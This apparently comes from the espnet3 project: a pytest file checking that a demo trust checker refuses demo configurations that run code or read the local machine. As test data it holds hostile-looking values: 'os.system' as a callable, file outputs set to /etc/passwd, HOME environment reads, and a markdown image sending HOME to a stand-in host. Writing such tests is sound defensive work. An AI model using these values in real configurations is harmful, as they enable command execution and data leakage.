from __future__ import annotations

import shutil

import pytest
from omegaconf import OmegaConf

from espnet3.demo.resolve import load_demo_config
from espnet3.demo.trust import check_demo
from espnet3.errors import UntrustedCodeError, UntrustedTargetError


def test_a_demo_around_a_packed_model_needs_no_trust(demo_dir, tmp_path):
    check_demo(demo_dir)
    folder = shutil.copytree(demo_dir, tmp_path / "demo")
    changes = {"model": {"call_args": {"decode": "ctc_prefix_beam", "beam_size": 2}}}
    OmegaConf.save(OmegaConf.merge(load_demo_config(folder), changes), folder / "demo.yaml")
    check_demo(folder)


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"model": {"dir_or_tag": None}, "infer_config": "x.yaml"}, "infer_config"),
        ({"model": {"trust_user_code": True}}, "model.trust_user_code"),
        ({"model": {"call_args": {"train_config": "../x/y"}}}, r"call_args\.train_config"),
        ({"model": {"call_args": {"model_file": "x.pth"}}}, r"call_args\.model_file"),
        ({"ui": {"builder": "os.getcwd"}}, "ui.builder"),
        ({"ui": {"builder": "src.page.build"}}, "ui.builder"),
        ({"extra_kwargs": {"output_fn_path": "src.x.f"}}, "output_fn_path"),
        ({"extra_kwargs": {"output_fn_path": "os.system"}}, "os.system"),
        ({"extra_kwargs": {"output_fn_path": "espnet3.utils.path_utils.write_text"}}, "write_text"),
        (
            {"ui": {"outputs": [{"name": "text", "type": "file", "value": "/etc/passwd"}]}},
            "'text'",
        ),
        ({"ui": {"outputs": [{"name": "x", "type": "File", "value": "/etc/passwd"}]}}, "'x'"),
        ({"ui": {"outputs": [{"name": "x", "type": "label", "value": "/a.json"}]}}, "'x'"),
        (
            {"ui": {"inputs": [{"name": "x", "type": "audio", "gradio_kwargs": {"value": "/x"}}]}},
            "'x'",
        ),
    ],
)
def test_what_runs_code_or_opens_files_is_refused(demo_dir, tmp_path, changes, named):
    folder = shutil.copytree(demo_dir, tmp_path / "demo")
    OmegaConf.save(OmegaConf.merge(load_demo_config(folder), changes), folder / "demo.yaml")
    with pytest.raises(UntrustedCodeError, match=named) as caught:
        check_demo(folder)
    is_target = isinstance(caught.value, UntrustedTargetError)
    assert is_target or "--trust_user_code" in str(caught.value)


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("note: ${oc.env:HOME}", "note reads more than demo.yaml"),
        ("more: [{text: '![](https://host/${oc.env:HOME})'}]", r"more\[0\]\.text"),
        ("defaults: [/etc/hosts]", "defaults reads other files"),
    ],
)
def test_a_configuration_that_reads_this_machine_is_refused_unread(
    demo_dir, tmp_path, line, named, monkeypatch
):
    folder = shutil.copytree(demo_dir, tmp_path / "demo")
    path = folder / "demo.yaml"
    path.write_text(f"{path.read_text()}{line}\n")
    monkeypatch.setattr("espnet3.demo.trust.load_demo_config", lambda folder: pytest.fail("read"))
    with pytest.raises(UntrustedCodeError, match=named):
        check_demo(folder)
